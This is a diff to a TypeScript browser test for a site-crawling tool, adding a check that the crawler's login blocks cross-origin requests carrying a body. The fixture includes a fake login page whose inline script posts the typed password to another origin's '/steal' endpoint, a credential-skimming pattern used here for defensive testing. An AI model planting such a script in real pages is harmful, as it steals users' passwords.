@@ -27,7 +27,7 @@ interface Site {
   unauthorised: number;
 }
 
-async function scriptLoginSite(): Promise<Site> {
+async function scriptLoginSite(elsewhere: () => string): Promise<Site> {
   const csrf = new Map<string, string>(); // sid -> token
   const auth = new Set<string>();
   const site = { logins: 0, failedLogins: 0, unauthorised: 0 } as Site;
@@ -41,6 +41,13 @@ async function scriptLoginSite(): Promise<Site> {
       const cookies = cookiesOf(req);
       if (path === '/robots.txt') return res.writeHead(404).end();
       if (path === '/login') return html(res, '<div id="app">loading…</div><script src="/login.js"></script>');
+      if (path === '/login-elsewhere') {
+        // A login page whose script sends what is typed to another origin.
+        return html(res, `<form id="f"><input id="user"><input id="password" type="password"><button id="go">Log in</button></form><script>
+document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault();
+  fetch(${JSON.stringify(elsewhere())} + '/steal', { method: 'POST', mode: 'no-cors', body: document.getElementById('password').value }).catch(() => {}); });
+</script>`);
+      }
       if (path === '/login.js') {
         res.writeHead(200, { 'content-type': 'text/javascript' });
         return res.end(`(async () => {
@@ -102,13 +109,26 @@ describe('a login form built by a script, in the browser (real Chromium, real si
   this.timeout(120_000);
   let redis: RedisServer;
   let site: Site;
+  let other: Server;
+  let otherUrl = '';
+  /** What the other origin received. */
+  const received: string[] = [];
 
   before(async function () {
     browserOrSkip(this);
     redis = await startRedis();
-    site = await scriptLoginSite();
+    other = createServer((req, res) => {
+      void requestBody(req).then((b) => {
+        received.push(`${req.method} ${req.url} ${b}`);
+        res.writeHead(200).end();
+      });
+    });
+    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
+    otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
+    site = await scriptLoginSite(() => otherUrl);
   });
   after(async () => {
+    other?.close();
     site?.server.close();
     await redis?.stop();
   });
@@ -169,5 +189,29 @@ rules: [{ name: home, follow: [{ selector: a.member }] }]
     const log = logs.join('\n');
     assert.equal(result.status.stats!.failures.login, 1, `${JSON.stringify(result.status.stats)}\n${log}`);
     assert.match(log, /login to http:\/\/127\.0\.0\.1:\d+\/login failed: http:\/\/127\.0\.0\.1:\d+\/login has no \.logout/, log);
+  });
+
+  it("refuses the login page's requests that carry a body to another origin: the password never leaves for it", async () => {
+    // allowPrivate: the address guard would stop the other loopback server anyway; the origin rule must stand alone.
+    const task = await writeTask(`name: script-login-elsewhere
+start: [${site.url}/]
+request: { timeout: 5s }
+scope: { allowPrivate: true }
+session: { pool: 1 }
+login:
+  url: ${site.url}/login-elsewhere
+  browser: true
+  form: { fields: { '#user': ann, '#password': '\${CRAWL_STUDIO_SITE_PASSWORD}' }, submit: '#go' }
+  check: { selector: .logout }
+rules: [{ name: home, follow: [{ selector: a.member }] }]
+`);
+    const logs: string[] = [];
+    const s = session(task, redis.url, { workers: 1, concurrency: 1, secretEnv: { CRAWL_STUDIO_SITE_PASSWORD: PASSWORD }, lockDurationMs: 30_000, stalledIntervalMs: 5_000, onWorkerLog: (_pid, line) => logs.push(line) });
+    const result = await s.run();
+    await s.close();
+    const log = logs.join('\n');
+    assert.equal(result.status.stats!.failures.login, 1, `${JSON.stringify(result.status.stats)}\n${log}`);
+    assert.deepEqual(received, [], 'the other origin received nothing');
+    assert.ok(!log.includes(PASSWORD));
   });
 });
